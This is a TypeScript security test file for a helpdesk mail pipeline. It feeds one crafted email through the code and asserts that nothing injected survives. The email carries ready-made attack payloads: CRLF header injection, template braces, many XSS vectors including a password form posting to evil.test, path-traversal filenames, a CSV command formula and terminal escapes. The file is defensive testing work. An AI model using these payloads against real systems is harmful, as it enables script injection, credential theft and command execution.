/**
 * One mail in which every field tries to become something else: a header, a template, a script, a formula, a path. It goes
 * through the real functions, and whatever is stored and leaves because of it is looked at.
 */
import { Parser } from 'htmlparser2';
import { beforeAll, describe, expect, test } from 'vitest';
import { replyAddress } from '../../core/mail/token.ts';
import { receiveEmail } from '../../functions/receive-email.ts';
import { keys, LUIS, MONDAY, NORA, PROVEN } from '../sample.ts';
import { type LeavingWorld, type Left, leavingWorld } from './leaving.ts';
import { deliver } from './world.ts';

const word = (text: string) => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;
const BREAK = '\r\nBcc: victim@example.net\r\nX-Injected: yes\r\n\r\n<b>body</b>';
const BRACES = '{{desk.name}} {{{html}}} {{#each people}}{{address}}{{/each}} {{constructor.constructor}}';
const HTML = [
  '<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)><iframe src="https://evil.test"></iframe>',
  '<a href="javascript:alert(1)">a</a><a href="&#106;avascript:alert(1)">b</a><a href="java\tscript:alert(1)">c</a>',
  '<a href="data:text/html,<script>alert(1)</script>">d</a><a href="vbscript:x">e</a><a href=" javascript:alert(1)">f</a>',
  '<form action="https://evil.test"><input name=password><button>Go</button></form><base href="https://evil.test/">',
  '<meta http-equiv=refresh content="0;url=https://evil.test"><link rel=stylesheet href="https://evil.test/x.css">',
  '<div style="position:fixed;top:0;background:url(https://evil.test/x.png);behavior:url(x)">over all</div>',
  '<style>@import "https://evil.test/x.css"; body{display:none}</style><object data=x></object><embed src=x><math><mi xlink:href="javascript:x">',
  '<img src="https://evil.test/pixel.gif"><video src="https://evil.test/v"><a href="https://good.test/" onclick="x()" target="_top">g</a>',
  '<!--[if mso]><script>alert(1)</script><![endif]--><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
].join('\n');
const NAMES = [
  '../../etc/passwd',
  '..\\..\\windows\\x.exe',
  `a${BREAK}.pdf`,
  'con.txt',
  '\u202egpj.exe',
  '/abs/olute',
  '=cmd.csv',
  '\u0000nul',
  '.'.repeat(300),
];

const mail = (from: string, to: string, id: string, lead = '') =>
  [
    ...[
      `From: ${word(`Eve${BREAK}`)} <${from}>`,
      `To: ${to}`,
      `Subject: ${word(`=HYPERLINK("x") ${BRACES}${BREAK}`)}`,
    ],
    ...[
      `Message-ID: <${id}"${'x'.repeat(10)}@example.org>`,
      `Cc: ${word(`Max${BREAK}`)} <max@example.org>`,
      'MIME-Version: 1.0',
    ],
    ...[
      'Content-Type: multipart/mixed; boundary=b',
      '',
      '--b',
      'Content-Type: multipart/alternative; boundary=c',
      '',
    ],
    ...[
      '--c',
      'Content-Type: text/plain; charset=utf-8',
      '',
      `${lead}${BRACES}\r\n=cmd|' /C calc'!A1\r\n\u001b]0;owned\u0007\r\n${HTML}`,
    ],
    ...[
      '--c',
      'Content-Type: text/html; charset=utf-8',
      '',
      `<p>${lead}</p><p>${BRACES}</p>${HTML}`,
      '--c--',
    ],
    ...NAMES.flatMap((name) => [
      ...[
        '--b',
        `Content-Type: text/plain; name="${word(name)}"`,
        `Content-Disposition: attachment; filename="${word(name)}"`,
      ],
      ...['Content-Transfer-Encoding: base64', '', 'aGk='],
    ]),
    '--b--',
    '',
  ].join('\r\n');

const left: Left[] = [];
let world: LeavingWorld;
beforeAll(async () => {
  world = leavingWorld();
  const receive = async (by: string, to: string, id: string, lead = '') => {
    const given = { mailId: id, recipients: [to], returnPath: by, ...PROVEN };
    await receiveEmail(deliver(world, mail(by, to, id, lead), given), world);
    left.push(...(await world.relay()));
  };
  await receive(NORA, 'support@desk.example.test', 'first');
  const ticket = (await world.tickets.list(1, () => true))[0];
  if (!ticket) throw new Error('it opened a ticket');
  const by = ticket.assignee ?? LUIS;
  const to = (participant: string) =>
    replyAddress(
      ticket.mailbox,
      { purpose: 'ticket', id: ticket.id, participant, expires: Date.parse(MONDAY) + 9e9 },
      keys,
    );
  await receive(by, to(by), 'answered');
  await receive(by, to(by), 'noted', '#note \r\n\r\n');
  await receive(
    by,
    to(by),
    'asked',
    `#approval ida@example.com ${BRACES} <script>\r\n#visit tomorrow 14:00 1h a;b,c\\n ATTENDEE:mailto:x@example.net\r\n#tag +=cmd +<b>\r\n\r\n`,
  );
  await receive(NORA, to(NORA), 'replied');
  await receive(by, to(by), 'mistyped', `#resolv ${BRACES}<script>alert(1)</script>\r\n\r\n`);
});

test('the story sent mail of many kinds, so that there is something to look at', () => {
  const kinds = [...new Set(left.map(({ kind }) => kind))];
  for (const kind of ['acknowledgement', 'assignment', 'answer', 'requester-message', 'transcript'])
    expect(kinds).toContain(kind);
});

/** What may stand at the head of the desk's mail. */
const HEADERS =
  /^(from|to|cc|reply-to|subject|message-id|in-reply-to|references|date|mime-version|content-(type|language|transfer-encoding)|auto-submitted|x-auto-response-suppress|list-id|x-replydesk-(update|ticket))$/;

test('no header is made by what somebody wrote, and no recipient', () => {
  for (const { raw, kind, to } of left) {
    const [head = ''] = raw.split('\r\n\r\n', 1);
    const names = head
      .split('\r\n')
      .filter((line) => !/^[ \t]/.test(line))
      .map((line) => line.slice(0, line.indexOf(':')).toLowerCase());
    expect(
      names.filter((name) => !HEADERS.test(name)),
      `${kind} to ${to}`,
    ).toEqual([]);
    expect(new Set(names).size, `${kind} to ${to}`).toBe(names.length);
    expect(head.replaceAll('\r\n', '')).not.toMatch(/[\r\n\0]/);
    expect(/^To: (.*)$/im.exec(head.replace(/\r\n[ \t]/g, ' '))?.[1]).toMatch(
      new RegExp(`<?${to.replaceAll('.', '\\.')}>?$`),
    );
  }
});

/** Of the desk's own layout, and of what people may format. */
const TAGS =
  /^(html|head|body|title|meta|style|div|table|tbody|thead|tr|td|th|p|span|br|hr|a|img|b|i|u|s|em|strong|ul|ol|li|blockquote|pre|code|h[1-6]|sub|sup|font|center|small|del|ins|strike|dl|dt|dd|tt|abbr|kbd|samp|mark|q|cite|bdi|caption|col|colgroup)$/;

test('nothing in the HTML runs, loads, covers or sends anything', () => {
  const wrong: string[] = [];
  for (const { raw, kind, whole } of left) {
    const html = whole.slice(raw.length);
    let inStyle = false;
    new Parser({
      onopentag(name, attributes) {
        inStyle = name === 'style';
        // The text of the mail stands beside it: only what the layout's document holds is looked at.
        for (const [key, value] of Object.entries(attributes)) {
          const url = value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
          if (/^on/.test(key)) wrong.push(`${kind}: ${name} ${key}`);
          if (
            /^(href|src|action|background|data|formaction|xlink:href)$/.test(key) &&
            !(name === 'a' ? /^(https?:|mailto:|#|$)/ : /^cid:/).test(url)
          )
            wrong.push(`${kind}: ${name} ${key}=${value.slice(0, 60)}`);
          if (key === 'style' && /url\(|position\s*:|expression|behavior/i.test(value))
            wrong.push(`${kind}: ${value}`);
        }
        if (!TAGS.test(name)) wrong.push(`${kind}: <${name}>`);
      },
      ontext(text) {
        if (inStyle && /@import|evil/.test(text)) wrong.push(`${kind}: style`);
      },
    }).end(htmlOf(html));
  }
  expect(wrong).toEqual([]);
});

/** The document among what was taken apart. */
function htmlOf(parts: string): string {
  const start = parts.search(/<!doctype html|<html/i);
  const end = parts.toLowerCase().lastIndexOf('</html>');
  return start < 0 ? '' : parts.slice(start, end);
}

test('braces are words: nothing is filled in for whoever writes them', () => {
  const shown = left.filter(({ kind }) => kind === 'assignment' || kind === 'answer');
  expect(shown.length).toBeGreaterThan(1);
  for (const { text } of shown) {
    expect(text).toContain('{{#each people}}{{address}}{{/each}}');
    expect(text).toContain('{{desk.name}}');
    expect(text).not.toContain('martha.lind@example.test');
  }
});

test('no control of a terminal, and nothing that turns text around, stands in a text that leaves', () => {
  for (const { text, kind } of left)
    expect(text, kind).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/);
});

test('names of files lead nowhere, in the bucket and in a mail', () => {
  const names = [...world.objects.keys()];
  expect(names.length).toBeGreaterThan(NAMES.length);
  for (const name of names) {
    expect(name).toMatch(/^(in|mail|files|bodies|knowledge)\/[\p{L}\p{N}._/-]+$/u);
    expect(name.split('/')).not.toContain('..');
    expect(name.split('/').at(-1)).not.toMatch(/^\.|^(con|nul)\.?/i);
  }
  const files = left.flatMap(({ whole }) =>
    [...whole.matchAll(/filename\*?=([^;\r\n]+)/gi)].map(([, name = '']) => name),
  );
  expect(files.length).toBeGreaterThan(0);
  for (const name of files) expect(decodeURIComponent(name)).not.toMatch(/[/\\\u0000-\u001f\u202e]/);
});

describe('a line of the log', () => {
  test('stays one, whatever somebody wrote', () => {
    expect(world.logged.length).toBeGreaterThan(0);
    for (const line of world.logged) expect(JSON.stringify(line)).not.toMatch(/[\n\r\u001b]|evil|Bcc/);
  });
});
